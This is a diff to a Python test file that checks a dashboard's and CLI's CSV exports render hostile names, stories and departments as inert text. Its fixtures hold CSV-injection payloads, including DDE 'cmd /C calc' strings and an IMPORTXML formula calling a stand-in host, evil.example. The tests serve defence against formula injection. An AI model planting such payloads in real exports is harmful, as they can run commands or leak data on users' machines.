@@ -1,5 +1,6 @@
 """Every export goes through one CSV writer, and none hands a spreadsheet a formula: a hostile
-name, story and objective reach the dashboard's CSV files as text, never as ``=...``."""
+name, story, department and objective reach the dashboard's CSV files and the CLI's report as
+text, never as ``=...``. (The CLI's comments and objectives CSV: tests/roadmap/test_export.py.)"""
 
 from __future__ import annotations
 
@@ -27,6 +28,7 @@ STORY = "@SUM(1+1)*cmd|' /C calc'!A0"
 CUSTOMER = "+1+2"
 CHANGED = "-2+3"
 OBJECTIVE = '\t=IMPORTXML("http://evil.example","//a")'
+DEPARTMENT = "-1+cmd|' /C calc'!A0"
 VIEWS = (("overview", "?scope=org"), ("groups", ""), ("stories", ""), ("cascades", ""))
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
@@ -95,4 +97,24 @@ async def test_hostile_text_reaches_every_dashboard_csv_as_text(client, seeded) 
                     seen[cell] = f"{view}/{section}"
     # the hostile texts are there, each as text (a leading apostrophe), not dropped
     for text in (NAME, STORY, CUSTOMER, CHANGED, OBJECTIVE):
-        assert "'" + text in seen, (text, [c for c in seen if "IMPORT" in c])
+        assert "'" + text in seen, text
+
+
+@pytest.mark.usefixtures("published")
+def test_hostile_group_names_reach_the_cli_report_as_text(seeded, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    from typer.testing import CliRunner
+
+    from bot.cli import app
+    from storage.disclosure_models import DisclosureCell
+
+    with seeded.db.session() as session:  # a department the org file named so
+        for cell in session.exec(select(DisclosureCell).where(DisclosureCell.key == "Sales")):
+            cell.label = DEPARTMENT
+            session.add(cell)
+    monkeypatch.setenv("CULTUREBOT_DATABASE_URL", seeded.db.url)
+    for args in (["report", "--format", "csv"], ["report", "--format", "csv", "--series"]):
+        done = CliRunner().invoke(app, args)
+        assert done.exit_code == 0, done.output
+        cells = [cell for line in csv.reader(io.StringIO(done.output)) for cell in line]
+        assert "'" + DEPARTMENT in cells, args
+        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)], args
